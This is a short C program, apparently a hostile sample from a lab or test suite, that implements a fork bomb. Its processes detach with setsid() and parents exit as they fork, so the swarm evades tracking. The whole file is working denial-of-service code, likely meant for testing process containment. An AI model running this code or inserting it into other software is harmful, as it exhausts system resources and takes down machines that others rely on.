// bombs: a fork bomb whose processes leave a child behind whenever they end.
#include "hostile.h"

int main(int argc, char **argv) {
    (void)argc;
    if (background()) {
        for (;;) {
            if (fork() == 0) setsid();
            // Who is the parent ends: nobody can follow them all.
            else if (fork() > 0) _exit(0);
        }
    }
    return lab0(argv);
}
